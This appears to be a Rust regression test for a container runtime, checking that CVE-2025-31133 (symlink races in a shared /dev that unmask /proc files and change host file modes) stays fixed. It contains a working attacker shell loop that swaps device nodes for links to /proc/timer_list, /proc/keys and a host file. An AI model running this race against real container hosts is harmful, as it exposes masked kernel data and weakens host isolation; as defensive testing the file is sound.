//! CVE-2025-31133: masked paths unmasked, and host files' modes changed, through a `/dev` that
//! another container of the pod can change. The runtime masks a file by binding `/dev/null`
//! over it; if it takes `/dev/null` by name from a directory the attacker writes, a symlink
//! there turns the mask into a bind of the masked file onto itself. Setting a device node's
//! mode by name through a link, before `pivot_root`, changes a host file's mode. Covered: an
//! attacker keeps swapping `null` for a link to `/proc/timer_list` and the other default nodes
//! for links to a host file of mode 0600 in a volume that 12 victims mount at `/dev`; each
//! victim reads its masked `/proc/timer_list` and `/proc/keys`.
use std::time::{Duration, Instant};

use crate::common::*;
use crate::*;

#[tokio::test]
async fn cve_2025_31133_masks_and_device_modes_through_a_shared_dev() {
    let marker = Marker::create();
    let probe = "wc -c < /proc/timer_list; cat /proc/keys | wc -c";
    // The detector: unmasked, /proc/timer_list has something to read; a mode change through a
    // link shows on the file.
    let host: Vec<u64> = host_sh(probe, std::path::Path::new("/"))
        .lines()
        .map(|l| l.trim().parse().unwrap())
        .collect();
    assert!(host[0] > 0, "the host's /proc/timer_list is readable");
    let check = tempfile::tempdir().unwrap();
    let copy = check.path().join("copy");
    std::fs::copy(marker.path(), &copy).unwrap();
    std::os::unix::fs::symlink(&copy, check.path().join("link")).unwrap();
    nix::sys::stat::fchmodat(
        nix::fcntl::AT_FDCWD,
        &check.path().join("link"),
        nix::sys::stat::Mode::from_bits_truncate(0o666),
        nix::sys::stat::FchmodatFlags::FollowSymlink,
    )
    .unwrap();
    assert_eq!(
        std::fs::metadata(&copy).unwrap().permissions().mode() & 0o777,
        0o666
    );

    let env = PodEnv::start().await;
    let sb = env.sandbox_config("dev");
    let pod = env.run_pod(&sb).await.unwrap();
    let dev = tempfile::tempdir().unwrap();
    let secret = marker.path().display().to_string();
    // Each loop has its own temporary name and renames it over the node.
    let swap = |i: usize, name: &str, to: &str| {
        format!(
            "while [ ! -f /shared/stop ]; do ln -sfn {to} /shared/.t{i} && \
             mv -f /shared/.t{i} /shared/{name}; done"
        )
    };
    let mut loops = vec![
        swap(0, "null", "/proc/timer_list"),
        swap(1, "null", "/proc/keys"),
    ];
    for (i, n) in ["zero", "full", "random", "urandom", "tty"]
        .iter()
        .enumerate()
    {
        loops.push(swap(i + 2, n, &secret));
    }
    let script = loops
        .iter()
        .map(|l| format!("( {l} ) &"))
        .collect::<Vec<_>>()
        .join(" ");
    let mut cfg = container(&env, "attacker", &format!("{script} wait"));
    cfg.mounts.push(volume(dev.path(), "/shared"));
    let attacker = env.run(&pod, &sb, cfg).await;

    let mut unmasked = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut victims = 0;
    while victims < 12 && Instant::now() < deadline {
        victims += 1;
        let mut cfg = container(&env, &format!("victim{victims}"), probe);
        cfg.mounts.push(volume(dev.path(), "/dev"));
        let (log, _) = run_to_end(&env, &pod, &sb, cfg).await;
        let counts: Vec<String> = log_lines(&log, "stdout");
        if counts
            .iter()
            .any(|c| c.trim().parse::<u64>().is_ok_and(|n| n > 0))
        {
            unmasked.push(format!("victim {victims}: {counts:?}"));
        }
    }
    std::fs::write(dev.path().join("stop"), "").unwrap();
    let _ = env.exec(&attacker, &["true"], 5).await;
    env.remove_pod(&pod).await;
    assert_eq!(marker.mode(), 0o600, "the host file's mode changed");
    assert!(
        unmasked.is_empty(),
        "masked files were readable in {} of {victims} victims: {unmasked:?}",
        unmasked.len()
    );
}
